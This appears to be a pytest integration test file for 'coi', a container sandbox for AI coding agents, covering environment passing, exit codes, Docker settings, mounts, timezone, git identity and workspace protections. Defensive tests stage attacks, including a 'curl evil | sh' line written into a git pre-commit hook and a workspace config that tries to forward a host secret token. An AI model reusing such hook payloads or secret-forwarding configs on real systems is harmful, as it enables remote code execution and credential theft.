"""Parity with upstream 0.8-0.10 on the real daemon (issue 26, items 7 and 10): values and
names that reach the sandbox exactly, exit codes of commands that do not exist, Docker's
settings, mounts the agent user can write, the shell's fallback, and the agent's
environment and identity (forward_env, timezone, git, the workspace's path, ./coi-run)."""

from __future__ import annotations

import hashlib
import json
import os
import pwd
import shutil
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pexpect
import pytest
from tests.conftest import run_coi
from tests.integration.conftest import (
    USER,
    coi_names,
    converse,
    remove_containers,
    spawn_shell,
    user_dir,
    wait_gone,
)

from coi import labels
from coi.backend import IncusClient
from coi.backend.exec import ExecRequest
from coi.errors import OperationFailed
from coi.host.provision import probe_mknod
from coi.sessions.sandbox import MKNOD_INTERCEPT, SETXATTR_INTERCEPT


@pytest.fixture
def box(client: IncusClient, coi_env: dict[str, str], unique: str) -> Iterator[str]:
    """A running tiny container made with `coi container launch` (as root)."""
    res = run_coi("container", "launch", "coi-tiny", unique, env=coi_env)
    assert res.returncode == 0, res.stderr
    try:
        yield unique
    finally:
        client.instances.delete(unique, force=True)


def user_config(uenv: dict[str, str], user: pwd.struct_passwd, text: str) -> None:
    """The test user's own (trusted) config file."""
    d = user_dir(Path(uenv["HOME"]) / ".config", user)
    f = user_dir(d / "coi", user) / "config.toml"
    f.write_text(text)
    os.chown(f, user.pw_uid, user.pw_gid)


def run_as_user(ws: Path, uenv: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    """`coi run` as the test user, in the workspace (where coi reads its ./.coi.toml)."""
    return run_coi("run", "--image", "coi-tiny", "-w", str(ws), *args, env=uenv, user=USER, cwd=ws)


# -- item 10: values, exit codes, exec's operation ------------------------------------------


def test_env_values_arrive_exactly_on_run_and_container_exec(
    client: IncusClient,
    base: Path,
    uenv: dict[str, str],
    user: pwd.struct_passwd,
    coi_env: dict[str, str],
    box: str,
) -> None:
    ws = user_dir(base / "ws", user)
    tricky = "a,b=c, d==e,"
    res = run_as_user(ws, uenv, "-e", f"X={tricky}", "--env", "Y=", "--", "sh", "-c",
                      'printf "[%s][%s]\\n" "$X" "${Y-unset}"')  # fmt: skip
    assert res.returncode == 0, res.stderr
    assert res.stdout == f"[{tricky}][]\n"
    wait_gone(client, ws)
    # Given before the sub-command (upstream's global flag), too.
    res = run_coi("-e", f"X={tricky}", "run", "--image", "coi-tiny", "-w", str(ws), "--", "sh",
                  "-c", 'printf "[%s]\\n" "$X"', env=uenv, user=USER, cwd=ws)  # fmt: skip
    assert (res.returncode, res.stdout) == (0, f"[{tricky}]\n"), res.stderr
    wait_gone(client, ws)
    res = run_coi("container", "exec", box, "--env", f"X={tricky}", "--", "sh", "-c",
                  'printf "[%s]\\n" "$X"', env=coi_env)  # fmt: skip
    assert (res.returncode, res.stdout) == (0, f"[{tricky}]\n"), res.stderr


def test_env_value_arrives_exactly_in_a_shell(
    client: IncusClient, base: Path, uenv: dict[str, str], user: pwd.struct_passwd
) -> None:
    ws = user_dir(base / "ws", user)
    child = spawn_shell(uenv, ws, "--debug", "-e", "X=a,b=c")
    try:
        child.expect("Mode: Interactive")
        child.expect("On exit: the container is removed")
        child.sendline('echo "got[$X]"')
        child.expect(r"got\[a,b=c\]")
        child.sendline("exit")
        child.expect(pexpect.EOF, timeout=60)
    finally:
        child.close(force=True)
        remove_containers(client, ws)


def test_a_missing_command_exits_127_on_every_exec_path(
    client: IncusClient,
    base: Path,
    uenv: dict[str, str],
    user: pwd.struct_passwd,
    coi_env: dict[str, str],
    box: str,
) -> None:
    ws = user_dir(base / "ws", user)
    res = run_as_user(ws, uenv, "--", "no-such-cmd", "arg")
    assert res.returncode == 127, res.stderr
    assert "no-such-cmd: command not found" in res.stderr
    assert "Operation not found" not in res.stderr
    wait_gone(client, ws)
    for extra in ([], ["--capture", "--format", "raw"], ["--user", "1000"]):
        res = run_coi("container", "exec", box, *extra, "--", "no-such-cmd", env=coi_env)
        assert res.returncode == 127, (extra, res.stderr)
        assert "no-such-cmd: command not found" in res.stdout + res.stderr
        assert "Operation not found" not in res.stderr


def test_an_exec_waited_on_late_still_gives_its_exit_code(client: IncusClient, box: str) -> None:
    """The daemon drops a finished operation after 5 s; coi asking for the exit code after
    that (output still being read, a loaded machine, a hiccup) once got "Operation not
    found". The wait is now asked when the command starts."""
    sess = client.exec.start(box, ExecRequest(["sh", "-c", "exit 7"]))
    deadline = time.monotonic() + 6  # past the daemon's 5 s: the operation is gone by then
    while time.monotonic() < deadline:
        time.sleep(0.5)
    assert sess.wait() == 7
    # The operation really is gone: asking the daemon now is what used to fail.
    with pytest.raises(Exception, match="Operation not found"):
        client.wait_operation(sess._op_id)


class _Hiccups(httpx.BaseTransport):
    """The real transport to the real daemon, except that the first `failures` waits on an
    operation break off as a reset connection would (a daemon socket's hiccup)."""

    def __init__(self, inner: httpx.BaseTransport, failures: int) -> None:
        self.inner, self.failures, self.broken = inner, failures, 0

    def handle_request(self, request: httpx.Request) -> httpx.Response:
        if request.url.path.endswith("/wait") and self.broken < self.failures:
            self.broken += 1
            raise httpx.ReadError("connection reset by peer", request=request)
        return self.inner.handle_request(request)

    def close(self) -> None:
        self.inner.close()


def test_a_daemon_hiccup_while_waiting_for_an_exec_is_not_its_failure(
    client: IncusClient, box: str
) -> None:
    sock = client.endpoint.socket_path
    assert sock
    for failures in (1, 2):
        flaky = _Hiccups(httpx.HTTPTransport(uds=sock), failures)
        with IncusClient(client.endpoint, project=client.project, transport=flaky) as c:
            res = c.exec.run(box, ExecRequest(["sh", "-c", "echo out; exit 4"]))
            assert (res.exit_code, res.stdout) == (4, b"out\n")
            assert c.exec.quiet(box, ExecRequest(["no-such-cmd"])) == 127
        assert flaky.broken == failures
    # Broken for good: the error says what happened, not "Operation not found".
    flaky = _Hiccups(httpx.HTTPTransport(uds=sock), 100)
    with (
        IncusClient(client.endpoint, project=client.project, transport=flaky) as c,
        pytest.raises(OperationFailed) as err,
    ):
        c.exec.run(box, ExecRequest(["true"]))
    assert "did not answer when asked how the command ended" in err.value.message
    assert "exit code is unknown" in err.value.message
    assert "Operation not found" not in str(err.value)


# -- item 10: Docker's settings, mounts the agent can write ------------------------------------


def test_docker_settings_follow_the_daemons_extensions_and_what_works(
    client: IncusClient,
    base: Path,
    uenv: dict[str, str],
    user: pwd.struct_passwd,
    coi_env: dict[str, str],
    box: str,
    pool: str,
) -> None:
    """Upstream sets mknod and setxattr interception for Docker. The extension is there on
    Incus 6.0, but with mknod interception on, this daemon and kernel refuse even the
    whiteouts (c 0:0) Docker's image layers hold, which the kernel allows without it: coi
    turns it on only where `coi setup`'s probe saw it work. setxattr interception makes
    execs under load fail while their command runs: only with `incus.intercept_setxattr`."""
    assert client.has_extension("container_syscall_intercept")  # Incus 6.0 has it
    works = probe_mknod(client, pool, "coi-tiny")
    found = client.networks.pool(pool)
    label = (found.config if found else {}).get(labels.MKNOD_WORKS)
    assert label in (None, "true" if works else "false")  # setup's verdict is the truth
    expected = {"security.nesting": "true"}
    if label == "true":
        expected[MKNOD_INTERCEPT] = "true"
    keys = ("security.nesting", MKNOD_INTERCEPT, SETXATTR_INTERCEPT)

    def docker_keys(name: str) -> dict[str, str]:
        config = client.instances.get(name).config
        return {k: config[k] for k in keys if k in config}

    assert docker_keys(box) == expected
    # What Docker's image layers need: a whiteout made by root inside; a device node too
    # where the interception is on.
    nodes = "mknod /tmp/w c 0 0" + (" && mknod /tmp/n c 1 3" if label == "true" else "")
    res = run_coi("container", "exec", box, "--", "sh", "-c", nodes, env=coi_env)
    assert res.returncode == 0, res.stderr
    # A session's sandbox gets the same (kept with --persistent to look at it).
    ws = user_dir(base / "ws", user)
    try:
        res = run_as_user(ws, uenv, "--persistent", "--", "true")
        assert res.returncode == 0, res.stderr
        (name,) = coi_names(client, ws)
        assert docker_keys(name) == expected
        # Upstream's `list --format json`: "" for a stopped container's address, not null.
        listed = json.loads(run_coi("list", "--format", "json", env=uenv, user=USER).stdout)
        (entry,) = [c for c in listed["active_containers"] if c["name"] == name]
        assert entry["status"].lower() == "stopped" and entry["ipv4"] == ""
        res = run_coi("persist", name, env=uenv, user=USER)
        assert f"Persisting container {name}..." in res.stdout
        assert f"  ✓ Persisted {name}" in res.stdout and "\nPersisted 1 container(s)" in res.stdout
    finally:
        remove_containers(client, ws)


def test_container_mount_shifts_by_default_so_the_agent_user_can_write(
    coi_env: dict[str, str], box: str, tmp_path: Path
) -> None:
    shared = tmp_path / "shared"
    plain = tmp_path / "plain"
    for d in (shared, plain):
        d.mkdir()
        os.chown(d, 1000, 1000)  # the agent user's own folder on the host
    tmp_path.chmod(0o755)
    res = run_coi("container", "mount", box, "shared", str(shared), "/mnt/shared", env=coi_env)
    assert res.returncode == 0, res.stderr
    assert f"Disk mounted: {shared} -> {box}:/mnt/shared" in res.stderr
    res = run_coi("container", "mount", box, "plain", str(plain), "/mnt/plain", "--no-shift",
                  env=coi_env)  # fmt: skip
    assert res.returncode == 0, res.stderr
    agent = ("container", "exec", box, "--user", "1000", "--", "sh", "-c")
    res = run_coi(*agent, "echo mine > /mnt/shared/f && id -u", env=coi_env)
    assert (res.returncode, res.stdout) == (0, "1000\n"), res.stderr
    assert (shared / "f").read_text() == "mine\n" and (shared / "f").stat().st_uid == 1000
    res = run_coi(*agent, "touch /mnt/plain/f", env=coi_env)
    assert res.returncode != 0 and "Permission denied" in res.stderr
    assert not (plain / "f").exists()


def test_container_exec_capture_json_passes_the_exit_code_on(
    coi_env: dict[str, str], box: str, tmp_path: Path
) -> None:
    """coi's deliberate difference: upstream exits 0 here whatever the command did."""
    res = run_coi("container", "exec", box, "--capture", "--", "sh", "-c",
                  "echo out; echo err >&2; exit 3", env=coi_env)  # fmt: skip
    assert res.returncode == 3
    assert json.loads(res.stdout) == {"stdout": "out\n", "stderr": "err\n", "exit_code": 3}
    res = run_coi("file", "pull", f"{box}:/etc/hostname", str(tmp_path / "h"), env=coi_env)
    assert res.returncode == 0, res.stderr
    assert f"Pulled file {box}:/etc/hostname -> {tmp_path / 'h'}" in res.stderr


def test_help_says_run_is_ephemeral() -> None:
    out = run_coi("run", "--help").stdout
    assert "The container is ephemeral" in out and "coi-run" in out


# -- item 10: the shell's fallback bash ----------------------------------------------------


def test_an_ephemeral_shell_says_what_exit_does_and_does_it(
    client: IncusClient, base: Path, uenv: dict[str, str], user: pwd.struct_passwd
) -> None:
    """The tool exits into a shell that says `exit` ends the session and removes the
    ephemeral container; it does (upstream left it running, with nobody attached)."""
    ws = user_dir(base / "ws", user)
    child = spawn_shell(uenv, ws)
    try:
        child.expect("On exit: the container is removed")
        converse(child, "hello")
        child.sendline("/exit")
        child.expect("bye")
        child.expect(r"\[coi\] standin exited\. This shell is still in the sandbox; 'exit' ends")
        child.expect("the container is removed")
        assert len(coi_names(client, ws)) == 1  # still there while the user is in the shell
        child.sendline("exit")
        child.expect(pexpect.EOF, timeout=60)
        child.close()
        assert coi_names(client, ws) == []
    finally:
        child.close(force=True)
        remove_containers(client, ws)


# -- item 7: forward_env ----------------------------------------------------------------------


def test_forward_env_passes_named_host_variables_and_a_workspace_file_cannot_add_one(
    client: IncusClient, base: Path, uenv: dict[str, str], user: pwd.struct_passwd
) -> None:
    """The attack: a cloned repository's .coi.toml names the host's SECRET_TOKEN (uenv sets
    it on the host) in forward_env, so the code in the repo would read it inside."""
    ws = user_dir(base / "ws", user)
    user_config(uenv, user, '[defaults]\nforward_env = ["FWD_ME", "NOT_ON_HOST"]\n')
    (ws / ".coi.toml").write_text('[defaults]\nforward_env = ["FWD_ME", "SECRET_TOKEN"]\n')
    env = {**uenv, "FWD_ME": "v,w=z"}
    res = run_coi("run", "--image", "coi-tiny", "-w", str(ws), "--", "sh", "-c",
                  'printf "[%s][%s]\\n" "$FWD_ME" "$SECRET_TOKEN"; env | grep -c s3cr3t',
                  env=env, user=USER, cwd=ws)  # fmt: skip
    assert res.stdout.splitlines() == ["[v,w=z][]", "0"], res.stderr
    assert 'forward_env variable "NOT_ON_HOST" is not set on host, skipping' in res.stderr
    assert "SECRET_TOKEN" in res.stderr and "not trusted" in res.stderr  # said, dropped
    wait_gone(client, ws)


# -- item 7: timezone -------------------------------------------------------------------------


def test_the_hosts_timezone_is_the_sandboxs(
    client: IncusClient, base: Path, uenv: dict[str, str], user: pwd.struct_passwd
) -> None:
    ws = user_dir(base / "ws", user)
    zone = Path("/usr/share/zoneinfo/Asia/Kathmandu")  # +0545 all year: no DST to race
    assert zone.is_file(), "the host needs tzdata"
    probe = (
        'echo "TZ=$TZ"; date +%z; cat /etc/timezone; md5sum < /usr/share/zoneinfo/Asia/Kathmandu;'
        " readlink /etc/localtime; env -u TZ date +%z"
    )
    res = run_coi("run", "--image", "coi-tiny", "-w", str(ws), "--", "sh", "-c", probe,
                  env={**uenv, "TZ": "Asia/Kathmandu"}, user=USER)  # fmt: skip
    assert res.returncode == 0, res.stderr
    digest = hashlib.md5(zone.read_bytes()).hexdigest()
    assert res.stdout.split("\n")[:6] == [
        "TZ=Asia/Kathmandu",
        "+0545",
        "Asia/Kathmandu",
        f"{digest}  -",
        "/usr/share/zoneinfo/Asia/Kathmandu",
        "+0545",  # processes coi does not start (no TZ) follow /etc/localtime
    ], res.stderr
    wait_gone(client, ws)
    # A POSIX rule needs no file; -e TZ=... wins over the host's.
    res = run_coi("run", "--image", "coi-tiny", "-w", str(ws), "-e", "TZ=UTC0", "--", "sh",
                  "-c", 'echo "$TZ"; date +%z', env={**uenv, "TZ": "<+0330>-3:30"},
                  user=USER)  # fmt: skip
    assert res.stdout.split() == ["UTC0", "+0000"], res.stderr
    wait_gone(client, ws)
    res = run_coi("run", "--image", "coi-tiny", "-w", str(ws), "--", "sh", "-c", "date +%z",
                  env={**uenv, "TZ": "<+0330>-3:30"}, user=USER)  # fmt: skip
    assert res.stdout.split() == ["+0330"], res.stderr
    wait_gone(client, ws)


# -- item 7: git identity -----------------------------------------------------------------------


@pytest.fixture
def gitkit(base: Path, user: pwd.struct_passwd) -> Path:
    """The host's git and the two libraries the tiny image lacks (its libc is the host's)."""
    kit = user_dir(base / "gitkit", user)
    git = shutil.which("git") or pytest.fail("the host needs git")
    shutil.copy(git, kit / "git")
    for lib in ("libpcre2-8.so.0", "libz.so.1"):
        shutil.copy(Path("/lib/x86_64-linux-gnu") / lib, kit / lib)
    return kit


def test_commits_carry_the_configured_identity_and_never_a_made_up_one(
    client: IncusClient,
    base: Path,
    uenv: dict[str, str],
    user: pwd.struct_passwd,
    gitkit: Path,
) -> None:
    ws = user_dir(base / "ws", user)
    commit = (
        "export LD_LIBRARY_PATH=/opt/git PATH=/opt/git:$PATH; cd /tmp && "
        "git init -q r 2>/dev/null; cd r && echo x > f && git add f && "
        "git commit -q -m m 2>&1; echo rc=$?; git log --format='%an <%ae>|%cn <%ce>' 2>&1"
    )
    run = ("run", "--image", "coi-tiny", "-w", str(ws), "--mount", f"{gitkit}:/opt/git")
    # No identity anywhere: git refuses instead of making one up (code@<container>).
    user_config(uenv, user, "[git]\nseed_host_identity = false\n")
    res = run_coi(*run, "--", "sh", "-c", commit, env=uenv, user=USER, cwd=ws)
    assert "rc=128" in res.stdout and "auto-detection is disabled" in res.stdout, res.stdout
    wait_gone(client, ws)
    # The user's identity, from their config; a workspace file naming another is dropped.
    user_config(uenv, user, '[git]\nname = "Ada Lovelace"\nemail = "ada@example.org"\n')
    (ws / ".coi.toml").write_text('[git]\nname = "Mallory"\nemail = "m@evil.example"\n')
    res = run_coi(*run, "--", "sh", "-c", commit, env=uenv, user=USER, cwd=ws)
    assert "rc=0" in res.stdout, res.stdout + res.stderr
    assert res.stdout.splitlines()[-1] == (
        "Ada Lovelace <ada@example.org>|Ada Lovelace <ada@example.org>"
    )
    assert "Mallory" not in res.stdout and "git.name" in res.stderr
    wait_gone(client, ws)


# -- item 7: the workspace at its host path; ./coi-run ----------------------------------------


def test_workspace_at_its_host_path_keeps_protected_paths_read_only(
    client: IncusClient, base: Path, uenv: dict[str, str], user: pwd.struct_passwd
) -> None:
    ws = user_dir(base / "ws", user)
    hooks = user_dir(user_dir(ws / ".git", user) / "hooks", user)
    user_config(uenv, user, '[workspace]\nmount_path = "same"\n')
    attack = (
        f'pwd; ls -A /workspace | wc -l; echo "curl evil | sh" > '
        f"{hooks}/pre-commit; echo rc=$?; umount {hooks} 2>/dev/null; echo x > {ws}/ok"
    )
    res = run_as_user(ws, uenv, "--", "sh", "-c", attack)
    lines = res.stdout.splitlines()
    assert lines[:2] == [str(ws), "0"], res.stdout + res.stderr  # nothing at /workspace
    assert lines[2] != "rc=0" and not (hooks / "pre-commit").exists()
    assert (ws / "ok").read_text() == "x\n"  # the rest of the workspace is live
    wait_gone(client, ws)
    # The same request from the workspace's own (untrusted) file is dropped.
    user_config(uenv, user, "")
    (ws / ".coi.toml").write_text('[workspace]\nmount_path = "same"\n')
    res = run_as_user(ws, uenv, "--", "pwd")
    assert res.stdout == "/workspace\n", res.stderr
    wait_gone(client, ws)


def test_run_with_no_command_runs_the_workspaces_coi_run(
    client: IncusClient, base: Path, uenv: dict[str, str], user: pwd.struct_passwd
) -> None:
    ws = user_dir(base / "ws", user)
    res = run_as_user(ws, uenv)
    assert res.returncode == 2 and "no command given and no coi-run found" in res.stderr
    assert coi_names(client, ws) == []  # refused before any container
    script = ws / "coi-run"
    script.write_text('#!/bin/sh\necho "ran in $(pwd) as $(id -u)"\nexit 5\n')
    os.chown(script, user.pw_uid, user.pw_gid)
    res = run_as_user(ws, uenv)
    assert res.returncode == 1 and "not executable" in res.stderr
    script.chmod(0o755)
    res = run_as_user(ws, uenv)
    assert res.returncode == 5, res.stderr
    assert res.stdout == "ran in /workspace as 1000\n"
    assert "Executing: /workspace/coi-run" in res.stderr
    wait_gone(client, ws)
